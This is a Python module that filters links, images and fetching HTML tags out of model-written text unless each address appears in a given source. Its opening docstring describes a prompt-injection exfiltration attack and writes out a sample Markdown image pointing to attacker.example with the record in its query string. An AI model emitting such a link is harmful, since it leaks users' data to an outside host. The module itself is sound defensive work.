"""Links and images in what a model writes. A model that obeys text planted in the record can
write `![x](https://attacker.example/?q=<the record>)`: a chat window or a Markdown page that
shows the answer fetches the image, and the record leaves with the request. So model text keeps
a link only when its address appears, exactly, in a source it was given; any other image,
link, HTML tag or bare address is taken out (a link keeps its words).
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable
from dataclasses import dataclass, field

# An address as it appears in running text; trailing punctuation is not part of it.
URL = re.compile(r"\b(?:https?|ftp)://[^\s<>\"'`\[\]()]+|\bwww\.[^\s<>\"'`\[\]()]+", re.IGNORECASE)
_TRAILING = ".,;:!?*_~"
# ![alt](address "title") and [words](address "title"); the address may sit in <…>.
IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)\n]*)?\s*\)")
LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)\n]*)?\s*\)")
# [label]: address — a reference definition, which `[words][label]` and `![alt][label]` use.
REFERENCE = re.compile(r"^[ \t]*\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.MULTILINE)
AUTOLINK = re.compile(r"<((?:https?|ftp|mailto):[^>\s]*)>", re.IGNORECASE)
# Tags that fetch or link to something when a page shows them.
HTML_TAG = re.compile(
    r"<\s*/?\s*(?:img|a|iframe|script|link|meta|video|audio|source|object|embed|svg|image|"
    r"form|input|style|base)\b[^>]*>",
    re.IGNORECASE,
)
REMOVED = "(link removed)"


@dataclass
class CleanedText:
    text: str
    removed: list[str] = field(default_factory=list)  # the addresses taken out


def addresses_in(texts: Iterable[str]) -> set[str]:
    """Every address the texts contain, as `URL` finds them."""
    return {_trimmed(match.group(0)) for text in texts for match in URL.finditer(text)}


def without_foreign_links(text: str, allowed: Collection[str]) -> CleanedText:
    """The text with every link, image, fetching HTML tag and bare address whose address is
    not in `allowed` taken out; a Markdown link keeps its words."""
    removed: list[str] = []

    def known(address: str) -> bool:
        return _trimmed(address) in allowed

    def image(match: re.Match[str]) -> str:
        if known(match.group(2)):
            return match.group(0)
        removed.append(match.group(2))
        return ""

    def link(match: re.Match[str]) -> str:
        if known(match.group(2)):
            return match.group(0)
        removed.append(match.group(2))
        return match.group(1)

    def reference(match: re.Match[str]) -> str:
        if known(match.group(1)):
            return match.group(0)
        removed.append(match.group(1))
        return ""

    def tag(match: re.Match[str]) -> str:
        removed.append(match.group(0))
        return ""

    def autolink(match: re.Match[str]) -> str:
        if known(match.group(1)):
            return match.group(0)
        removed.append(match.group(1))
        return REMOVED

    def bare(match: re.Match[str]) -> str:
        address = _trimmed(match.group(0))
        if address in allowed:
            return match.group(0)
        removed.append(address)
        return REMOVED + match.group(0)[len(address) :]

    cleaned = IMAGE.sub(image, text)
    cleaned = LINK.sub(link, cleaned)
    cleaned = REFERENCE.sub(reference, cleaned)
    cleaned = HTML_TAG.sub(tag, cleaned)
    cleaned = AUTOLINK.sub(autolink, cleaned)
    # Addresses left in the text after the constructs above (kept ones included) are checked
    # once more as bare addresses; a kept one is in `allowed`, so it stays.
    cleaned = URL.sub(bare, cleaned)
    if removed:
        cleaned = re.sub(r"[ \t]{2,}", " ", cleaned)
    return CleanedText(cleaned, removed)


class StreamedLinkFilter:
    """`without_foreign_links` for text that arrives in pieces: a piece is held back while it
    may be the start of a link (an open bracket, parenthesis or angle bracket, or a word not yet
    ended), so a link is always judged whole."""

    HOLD_AT_MOST = 2000  # characters; past that, what is held is judged as it is

    def __init__(self, allowed: Collection[str]) -> None:
        self.allowed = allowed
        self.pending = ""
        self.removed: list[str] = []

    def feed(self, piece: str) -> str:
        self.pending += piece
        cut = _safe_cut(self.pending)
        if cut == 0 and len(self.pending) > self.HOLD_AT_MOST:
            cut = len(self.pending)
        return self._release(cut)

    def finish(self) -> str:
        return self._release(len(self.pending))

    def _release(self, cut: int) -> str:
        ready, self.pending = self.pending[:cut], self.pending[cut:]
        if not ready:
            return ""
        cleaned = without_foreign_links(ready, self.allowed)
        self.removed += cleaned.removed
        return cleaned.text


def _safe_cut(text: str) -> int:
    """How much of the text can be judged now: up to the last blank outside any bracket and
    before anything still open, so no link, tag or address is cut in two."""
    openers = {"[": "]", "(": ")", "<": ">"}
    stack: list[str] = []
    cut = 0
    for index, char in enumerate(text):
        if char in openers:
            stack.append(char)
        elif stack and char == openers[stack[-1]]:
            stack.pop()
        elif char == "\n":
            stack.clear()  # none of these constructs spans lines
            cut = index + 1
        elif char in " \t" and not stack:
            cut = index + 1
    return cut


def _trimmed(address: str) -> str:
    return address.rstrip(_TRAILING)
